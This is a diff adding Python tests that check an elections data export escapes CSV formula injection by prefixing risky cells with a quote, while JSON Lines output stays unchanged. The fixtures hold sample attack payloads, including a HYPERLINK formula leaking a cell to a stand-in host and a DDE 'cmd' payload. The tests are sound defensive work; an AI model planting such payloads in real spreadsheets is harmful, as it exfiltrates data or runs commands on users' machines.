@@ -385,6 +385,57 @@ async def test_csv_quotes_commas_quotes_and_line_breaks(empty_db: TortoiseContex
     )
 
 
+async def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(
+    empty_db: TortoiseContext,
+) -> None:
+    # OWASP's rule for CSV injection: text starting with =, +, -, @, a tab or a carriage
+    # return gets a single quote in front, which spreadsheets show as text and do not run.
+    country = await models.Country.create(code="AZ", name="Azerbaijan")
+    summaries = {
+        "az-1": '=HYPERLINK("http://example.com/?leak="&A1,"Details")',
+        "az-2": "+1 for the opposition",
+        "az-3": "-2+3",
+        "az-4": "@SUM(A1:A9)",
+        "az-5": "\tindented",
+        "az-6": "\rreturned",
+        "az-7": "Plain text, with = and - inside",
+    }
+    for number, (key, summary) in enumerate(summaries.items(), 1):
+        await models.Election.create(
+            key=key,
+            country=country,
+            kind=models.ElectionKind.PRESIDENTIAL,
+            office="=cmd|' /C calc'!A0" if key == "az-1" else "President",
+            date=dt.date(2000 + number, 1, 1),
+            summary=summary,
+        )
+    rows = csv_rows(await download("/export/elections.csv"))
+    assert {row["key"]: row["summary"] for row in rows} == {
+        "az-1": '\'=HYPERLINK("http://example.com/?leak="&A1,"Details")',
+        "az-2": "'+1 for the opposition",
+        "az-3": "'-2+3",
+        "az-4": "'@SUM(A1:A9)",
+        "az-5": "'\tindented",
+        "az-6": "'\rreturned",
+        "az-7": "Plain text, with = and - inside",
+    }
+    assert rows[0]["office"] == "'=cmd|' /C calc'!A0"
+    # JSON Lines is data for programs, not a spreadsheet: written as stored.
+    lines = jsonl_rows(await download("/export/elections.jsonl"))
+    assert {line["key"]: line["summary"] for line in lines} == summaries
+
+
+def test_numbers_are_written_as_numbers() -> None:
+    # A negative number runs nothing, and a quote would make it text in a spreadsheet.
+    assert [export.cell(value) for value in (-3, -2.5, 0, 92.12)] == ["-3", "-2.5", "0", "92.12"]
+    assert [export.cell(value) for value in ("-3", ["-a", "b"], None, True)] == [
+        "'-3",
+        "'-a b",
+        "",
+        "true",
+    ]
+
+
 # --- Streaming in batches ----------------------------------------------------------------
 
 
